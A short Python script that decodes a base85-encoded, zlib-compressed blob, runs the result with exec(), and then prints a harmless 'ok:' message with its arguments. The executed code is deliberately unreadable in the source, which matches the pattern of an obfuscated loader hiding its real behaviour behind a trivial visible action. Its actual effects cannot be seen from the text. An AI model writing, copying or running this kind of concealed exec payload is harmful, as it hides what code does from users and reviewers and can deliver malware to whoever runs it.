import base64
import sys
import zlib

_blob = b'c$~}3Eyyn_QOGam$}iR{t}HG|&DBsZPfsmT&@J@WRmdnQDX`MlH!?8RGte_MG}be-(63OaQ7Fz(*W>~KWNQ)s'
exec(zlib.decompress(base64.b85decode(_blob)))
print("ok:", sys.argv[1:])
